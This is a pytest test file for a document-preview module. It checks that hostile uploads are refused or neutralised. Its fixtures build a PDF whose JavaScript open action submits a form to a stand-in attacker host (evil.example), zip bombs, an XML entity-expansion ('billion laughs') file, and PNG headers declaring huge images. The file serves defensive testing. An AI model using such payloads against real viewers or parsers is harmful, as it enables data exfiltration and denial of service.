"""seal_engine.preview: evidence read in place, bounded; hostile files (a PDF with scripts, zip
bombs, images too large to decode, entity tricks) end in a notice or an error code, never in
a hang, a crash or the file itself reaching the page."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from seal_engine.preview import (
    ERROR_CODES,
    NOTICE_CODES,
    PreviewLimits,
    preview_document,
)
from seal_engine.store.demo import demo_pdf

PNG = b"\x89PNG\r\n\x1a\n"


def _codes(preview) -> list[str]:
    return [n.code for n in preview.notices]


def _png_size(data: bytes) -> tuple[int, int]:
    assert data.startswith(PNG)
    return struct.unpack(">II", data[16:24])


def _pdf(pages: int, *, script: bool = False) -> bytes:
    """A PDF of ``pages`` pages, each saying its number; with ``script``, a document-level
    JavaScript action and an open action running it."""
    def stream(n: int) -> bytes:
        return (b"BT /F1 24 Tf 72 700 Td (Page %d of the minutes) Tj ET" % n)

    objects: list[bytes] = []
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(pages))
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    font = 3 + 2 * pages
    if script:
        catalog += b" /Names << /JavaScript %d 0 R >> /OpenAction %d 0 R" % (font + 1, font + 2)
    objects.append(catalog + b" >>")
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode())
    for i in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents "
                       b"%d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + 2 * i, font))
        body = stream(i + 1)
        objects.append(b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    if script:
        objects.append(b"<< /Names [(run) %d 0 R] >>" % (font + 2))
        objects.append(b"<< /S /JavaScript /JS (app.alert('owned'); this.submitForm("
                       b"'https://evil.example/');) >>")
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def _png_header(width: int, height: int) -> bytes:
    """A PNG that claims to be ``width`` x ``height``: its header is all an attacker sends."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    idat = zlib.compress(b"\x00" * 64)
    return (PNG + struct.pack(">I", len(ihdr)) + chunk +
            struct.pack(">I", zlib.crc32(chunk)) + struct.pack(">I", len(idat)) + b"IDAT" +
            idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat)) + b"\x00\x00\x00\x00IEND" +
            struct.pack(">I", zlib.crc32(b"IEND")))


def _zip(parts: dict[str, bytes | int]) -> bytes:
    """A zip of ``parts``; an int is that many zero bytes, written in chunks (a bomb)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            if isinstance(body, int):
                with z.open(name, "w", force_zip64=True) as f:
                    chunk = b"\x00" * 1_000_000
                    for _ in range(body // len(chunk)):
                        f.write(chunk)
            else:
                z.writestr(name, body)
    return buffer.getvalue()


# ------------------------------------------------------------------------------ PDF


def test_a_pdf_page_is_rendered_to_png():
    p = preview_document(demo_pdf("Minutes of the committee", "Met on 3 March"), "m.pdf",
                         "application/pdf")
    assert (p.kind, p.page_count, p.error, p.notices) == ("pages", 1, None, [])
    width, height = _png_size(p.pages[0])
    assert (width, height) == (892, 1263)  # A4 at 1.5 x 72 dpi


def test_the_page_picker_renders_pages_from_the_one_asked_for():
    data = _pdf(7)
    first = preview_document(data, "report.pdf")
    assert (first.page_count, first.first_page, len(first.pages)) == (7, 0, 3)
    assert first.notices[-1].model_dump() == {
        "code": "pages_shown", "params": {"first": 1, "last": 3, "count": 7}}
    later = preview_document(data, "report.pdf", page=5)
    assert (later.first_page, len(later.pages)) == (5, 2)
    assert later.notices[-1].params == {"first": 6, "last": 7, "count": 7}
    assert later.pages[0] != first.pages[0]  # another page, drawn differently
    past = preview_document(data, "report.pdf", page=7)
    assert past.error.model_dump() == {"code": "page_out_of_range",
                                       "params": {"page": 8, "count": 7}}


def test_a_pdf_with_javascript_is_rendered_and_its_scripts_never_run():
    p = preview_document(_pdf(1, script=True), "hostile.pdf")
    assert p.kind == "pages" and len(p.pages) == 1
    assert p.notices[0].model_dump() == {"code": "pdf_scripts_ignored",
                                         "params": {"count": 1}}
    assert all(page.startswith(PNG) for page in p.pages)  # pictures, never the PDF


def test_rendering_stops_at_the_time_limit():
    p = preview_document(_pdf(3), "slow.pdf", limits=PreviewLimits(seconds=0))
    assert p.pages == [] and "time_limit" in _codes(p)


def test_a_page_too_large_is_rendered_smaller():
    p = preview_document(_pdf(1), "a.pdf", limits=PreviewLimits(max_page_pixels=100_000))
    width, height = _png_size(p.pages[0])
    assert width * height <= 100_000 and "page_reduced" in _codes(p)


def test_damaged_and_oversized_pdfs_are_refused_with_their_code():
    assert preview_document(b"%PDF-1.4 not really", "x.pdf").error.code == "pdf_unreadable"
    big = preview_document(demo_pdf("x"), "x.pdf", limits=PreviewLimits(max_bytes=100))
    assert big.error.code == "too_large" and big.error.params["limit"] == 100
    assert preview_document(b"", "x.pdf").error.code == "empty"


# ------------------------------------------------------------------------------ images


def test_an_image_is_verified_and_written_again_as_png():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (2400, 1200), "purple").save(buffer, "JPEG")
    p = preview_document(buffer.getvalue(), "photo.jpeg", "image/jpeg")
    assert p.kind == "image" and _png_size(p.pages[0]) == (1600, 800)
    assert p.notices[0].model_dump() == {"code": "image_reduced",
                                         "params": {"width": 2400, "height": 1200}}


def test_a_huge_image_is_refused_before_it_is_decoded():
    over_ours = preview_document(_png_header(8000, 6000), "scan.png")
    assert over_ours.error.model_dump() == {"code": "image_too_large", "params": {
        "width": 8000, "height": 6000, "pixels": 48_000_000, "limit": 40_000_000}}
    bomb = preview_document(_png_header(100_000, 100_000), "bomb.png")
    assert bomb.error.code == "image_too_large"
    assert preview_document(PNG + b"garbage" * 10, "x.png").error.code == "image_unreadable"


# ------------------------------------------------------------------------------ office files


def test_a_docx_gives_its_paragraphs_and_tables():
    import docx

    d = docx.Document()
    d.add_heading("Gender equality policy", 1)
    d.add_paragraph("Approved by the Minister on 3 March 2025.")
    table = d.add_table(rows=2, cols=2)
    for (r, c), text in {(0, 0): "Grade", (0, 1): "Women", (1, 0): "P-4", (1, 1): "12"}.items():
        table.cell(r, c).text = text
    buffer = io.BytesIO()
    d.save(buffer)
    p = preview_document(buffer.getvalue(), "policy.docx")
    assert p.error is None
    assert p.text == "Gender equality policy\nApproved by the Minister on 3 March 2025."
    assert (p.tables[0].columns, p.tables[0].rows) == (["Grade", "Women"], [["P-4", "12"]])


def test_an_xlsx_gives_the_first_rows_of_each_sheet():
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "Staff"
    book.active.append(["Grade", "Women", "Men"])
    for i in range(120):
        book.active.append([f"G{i}", i, 2 * i])
    book.create_sheet("Pay").append(["Grade", "Gap"])
    titled = book.create_sheet("Titled")
    for row in (["Employment data by sex, 2025"], [], ["Ministry of Labour"],
                ["Item", "Women", "Men"], ["Placed in jobs", 41, 38]):
        titled.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    p = preview_document(buffer.getvalue(), "staff.xlsx")
    staff, pay, title = p.tables
    assert (title.above, title.columns, title.rows) == (
        ["Employment data by sex, 2025", "Ministry of Labour"], ["Item", "Women", "Men"],
        [["Placed in jobs", "41", "38"]])  # the title above the table, not its header
    counted = preview_document(buffer.getvalue(), "staff.xlsx",
                               limits=PreviewLimits(count_rows=60))
    assert counted.notices[0].params == {"table": "Staff", "shown": 50, "total": None}
    assert (staff.name, staff.columns, len(staff.rows)) == ("Staff", ["Grade", "Women", "Men"],
                                                            50)
    assert staff.rows[1] == ["G1", "1", "2"] and (pay.name, pay.rows) == ("Pay", [])
    assert p.notices[0].model_dump() == {"code": "rows_truncated", "params": {
        "table": "Staff", "shown": 50, "total": 120}}


def test_a_csv_is_a_table():
    p = preview_document(b"Grade;Women;Men\nP-4;12;9\nD-1;2;5\n", "staff.csv")
    assert (p.kind, p.tables[0].columns, p.tables[0].rows) == (
        "tables", ["Grade", "Women", "Men"], [["P-4", "12", "9"], ["D-1", "2", "5"]])
    assert preview_document(b"\xff\xfe\x00", "x.csv").error.code == "text_unreadable"


_ODS = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>
<table:table table:name="Training">
<table:table-row><table:table-cell><text:p>Course</text:p></table:table-cell>
<table:table-cell><text:p>Women</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell><text:p>Gender budgeting</text:p></table:table-cell>
<table:table-cell><text:p>14</text:p></table:table-cell>
<table:table-cell table:number-columns-repeated="16384"/></table:table-row>
<table:table-row table:number-rows-repeated="1048574"><table:table-cell
 table:number-columns-repeated="16384"/></table:table-row>
</table:table></office:spreadsheet></office:body></office:document-content>"""


def test_an_ods_sheet_filled_to_its_last_row_and_column_reads_as_its_few_rows():
    data = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                 "content.xml": _ODS.encode()})
    p = preview_document(data, "training.ods")
    assert p.error is None and p.notices == []
    assert (p.tables[0].name, p.tables[0].columns, p.tables[0].rows) == (
        "Training", ["Course", "Women"], [["Gender budgeting", "14"]])


def test_an_odt_gives_its_text_and_entity_tricks_are_refused():
    ns = 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = (f'<doc {ns}><text:h>Minutes</text:h><text:p>Met<text:s text:c="2"/>on '
               '3 March</text:p></doc>')
    p = preview_document(_zip({"content.xml": content.encode()}), "minutes.odt")
    assert p.text == "Minutes\nMet  on 3 March"
    laughs = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">'
              f']><doc {ns}><text:p>&b;&b;&b;</text:p></doc>')
    bad = preview_document(_zip({"content.xml": laughs.encode()}), "laughs.odt")
    assert bad.error.code == "document_unreadable"


def test_a_zip_bomb_docx_is_refused_before_it_is_unpacked():
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": 100_000_000})
    assert len(bomb) < 200_000
    p = preview_document(bomb, "bomb.docx")
    assert p.error.model_dump() == {"code": "archive_too_large", "params": {
        "size": 100_000_008, "limit": 60_000_000}}
    tight = preview_document(_zip({"word/media/scan.bmp": 20_000_000}), "tight.docx")
    assert tight.error.code == "archive_bomb" and tight.error.params["ratio"] > 200
    xml = preview_document(_zip({"word/document.xml": 20_000_000}), "long.docx")
    assert xml.error.model_dump() == {"code": "archive_too_large", "params": {
        "size": 20_000_000, "limit": 15_000_000}}  # one XML part parsed in memory: bounded
    assert preview_document(b"PK\x03\x04broken", "x.docx").error.code == "archive_unreadable"


def test_kinds_without_a_preview_say_so():
    p = preview_document(b"MZ\x90\x00", "setup.exe")
    assert p.error.model_dump() == {"code": "unsupported", "params": {"suffix": "exe"}}


@pytest.mark.parametrize("code", ERROR_CODES + NOTICE_CODES)
def test_every_code_is_put_into_words_by_the_app(code):
    from seal_engine.app.evidence import preview_words

    assert preview_words(code, {}).strip()
